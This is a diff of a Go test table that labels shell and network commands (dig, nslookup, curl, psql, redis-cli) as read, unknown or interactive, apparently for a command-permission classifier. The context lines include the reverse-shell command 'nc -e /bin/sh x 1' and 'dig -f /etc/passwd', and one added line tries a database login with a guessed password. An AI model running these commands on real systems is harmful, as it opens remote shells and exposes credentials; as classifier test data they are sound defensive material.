@@ -68,7 +68,23 @@ func TestNetwork(t *testing.T) {
 		unknown+r   | nc -e /bin/sh x 1
 		read        | pg_isready -h db -U octollm
 		read        | nslookup postgres
-		read        | nslookup -type=SRV postgres
+		read+r      | nslookup -type=SRV postgres
+		read        | nslookup -type=AAAA postgres
+		read+r      | dig MX postgres
+		read        | dig +short postgres AAAA
+		read+r      | curl -H 'Host: admin' http://api:8000/
+		read+r      | curl --limit-rate 1k http://api:8000/
+		read        | curl --retry 3 --retry-delay 1 http://api:8000/
+		read+r      | nc -zu postgres 5432
+		read+r      | column names
+		read+r      | grep -z a b
+		read        | grep -r a .
+		read        | docker exec api-0 grep -z a b
+		read        | psql postgresql://octollm@db/octollm -c "SELECT 1"
+		read+r      | psql postgresql://octollm:guess@db/octollm -c "SELECT 1"
+		read+r      | psql "host=db dbname=octollm" -c "SELECT 1"
+		read+r      | redis-cli --hotkeys
+		read        | docker exec redis-0 redis-cli --hotkeys
 		read+r      | dig +short @10.0.0.1 x
 		unknown+r   | dig -f /etc/passwd
 		interactive+r | ssh host
